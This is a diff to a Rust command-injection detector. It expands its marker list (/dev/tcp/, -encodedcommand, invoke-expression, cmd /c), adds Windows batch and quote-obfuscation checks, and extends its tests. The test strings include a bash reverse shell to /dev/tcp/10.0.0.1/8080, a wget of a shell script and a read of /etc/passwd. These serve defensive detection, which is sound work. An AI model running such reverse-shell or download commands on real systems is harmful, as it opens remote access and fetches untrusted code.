@@ -181,6 +181,8 @@ const WEAK: &[&str] = &[
 fn is_cmd(word: &str) -> Option<bool> {
     let w = word.rsplit(['/', '\\']).next().unwrap_or(word);
     let w = w.strip_suffix(".exe").unwrap_or(w);
+    // `python3.10`, `php7.4`: the interpreter with its version
+    let w = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     if STRONG.contains(&w) {
         Some(WEAK.contains(&w))
     } else {
@@ -193,15 +195,30 @@ pub fn detect(value: &str) -> bool {
     let b = value.as_bytes();
     let lower = value.to_ascii_lowercase();
     let l = lower.as_bytes();
-    if memchr::memmem::find(l, b"$ifs").is_some()
-        || memchr::memmem::find(l, b"${ifs").is_some()
-        || memchr::memmem::find(l, b"/dev/tcp/").is_some()
-        || memchr::memmem::find(l, b"%comspec%").is_some()
-    {
+    const MARKERS: &[&[u8]] = &[
+        b"$ifs",
+        b"${ifs",
+        b"/dev/tcp/",
+        b"/dev/udp/",
+        b"%comspec%",
+        b"%errorlevel%",
+        b"errorlevel ",
+        b"for /f ",
+        b"\"delims=",
+        b"cmd /c",
+        b"cmd.exe /c",
+        b"powershell -",
+        b"-encodedcommand",
+        b"invoke-expression",
+        b"iex(",
+        b"/bin/sh -c",
+        b"/bin/bash -c",
+    ];
+    if MARKERS.iter().any(|m| memchr::memmem::find(l, m).is_some()) {
         return true;
     }
     // at the start: `cat /etc/passwd`, `wget http://x/s.sh`
-    if command_at(l, 0, false) {
+    if command_at(l, 0, false) || windows_batch(&lower) {
         return true;
     }
     let mut i = 0;
@@ -240,7 +257,8 @@ fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
         i += 1;
     }
     let (word, end) = shell_word(l, i);
-    if word.is_empty() {
+    if word.is_empty() || l.get(end) == Some(&b'=') {
+        // `&id=123`: a URL parameter, not a command
         return false;
     }
     let Some(weak) = is_cmd(&word) else {
@@ -251,6 +269,23 @@ fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
             .iter()
             .all(|c| matches!(c, b' ' | b'\t' | b'{' | b'(' | b'!'));
     let arg = next_arg(l, end);
+    let quotes = l[i..end]
+        .iter()
+        .filter(|c| matches!(c, b'\'' | b'"'))
+        .count();
+    let obfuscated = (quotes > 0 && quotes % 2 == 0) || l[i..end].contains(&b'\\');
+    if obfuscated && !weak && word.len() > 2 {
+        // `'i'fconfig`, `w\hoami`: quote removal only a shell performs
+        return true;
+    }
+    if PREFIXES.contains(&word.as_str()) {
+        // `nohup ifconfig`, `sudo rm`: a command that runs the next word as a command
+        if let Some(a) = &arg {
+            if is_cmd(a).is_some() {
+                return true;
+            }
+        }
+    }
     if at_start {
         // a command at the very start of a value needs a shell-style argument, whatever it is
         return arg.is_some_and(|a| shell_arg(&a, word.contains('/')));
@@ -260,6 +295,66 @@ fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
     }
     arg.is_some_and(|a| shell_arg(&a, true))
 }
+
+/// Windows batch control flow: `FOR /F %i IN (...) DO ...`, `IF [/I] [NOT] EXIST ...`,
+/// `IF %var% EQU 2 ...`, `IF "%a%"=="b" (...)`.
+fn windows_batch(l: &str) -> bool {
+    let words: Vec<&str> = l
+        .split(|c: char| c.is_whitespace() || matches!(c, '&' | '|' | ';'))
+        .filter(|w| !w.is_empty())
+        .collect();
+    for (i, w) in words.iter().enumerate() {
+        let rest = &words[i + 1..words.len().min(i + 12)];
+        match *w {
+            "for" => {
+                let mut k = 0;
+                while rest.get(k).is_some_and(|f| f.starts_with('/')) {
+                    k += 1;
+                }
+                let var = rest.get(k).is_some_and(|v| v.starts_with('%'));
+                let has_in = rest.iter().any(|x| *x == "in" || x.starts_with("in("));
+                let has_do = rest
+                    .iter()
+                    .any(|x| *x == "do" || x.ends_with(")do") || x.starts_with("do"));
+                if var && has_in && has_do {
+                    return true;
+                }
+            }
+            "if" => {
+                let mut k = 0;
+                while matches!(rest.get(k), Some(&("/i" | "not"))) {
+                    k += 1;
+                }
+                match rest.get(k) {
+                    Some(&("exist" | "defined" | "errorlevel" | "cmdextversion")) => return true,
+                    Some(v) if v.contains('%') => {
+                        let cmp = rest.iter().any(|x| {
+                            x.contains("==")
+                                || matches!(*x, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq")
+                        });
+                        if cmp {
+                            return true;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Whether `word` names a shell command CNAF knows.
+pub fn is_command_word(word: &str) -> bool {
+    is_cmd(word).is_some()
+}
+
+/// Commands that run their argument as a command.
+const PREFIXES: &[&str] = &[
+    "nohup", "sudo", "xargs", "busybox", "env", "timeout", "nice", "strace", "exec", "eval",
+    "time", "watch", "chroot", "su",
+];
 
 /// One shell word with quote removal: `c'a't` → `cat`, `\l\s` → `ls`.
 fn shell_word(l: &[u8], start: usize) -> (String, usize) {
@@ -347,6 +442,13 @@ mod tests {
             "wget http://example.com/x.sh",
             "a\nid\n",
             "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+            "nohup ifconfig",
+            "'i'fconfig",
+            "python3.10 -c 'import os'",
+            "IF %ERRORLEVEL% EQU 2 goto x",
+            "for /l %%I in (0,1,5) do call echo %%RANDOM%%",
+            "IF /I NOT EXIST C:\\nonexistent echo hey",
+            "IF /I \"%var%\"==\"hello, world!\" ( ECHO found )",
         ] {
             assert!(detect(a), "missed: {a}");
         }
@@ -370,6 +472,12 @@ mod tests {
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
             "rock & roll",
             "Q&A",
+            "time is money",
+            "if you exist, call me",
+            "for all of us in the team, do your best",
+            "Nice to meet you",
+            "I'd watch it again",
+            "https://app.example.com/dashboard?action=edit&id=123",
         ] {
             assert!(!detect(b), "false positive: {b}");
         }
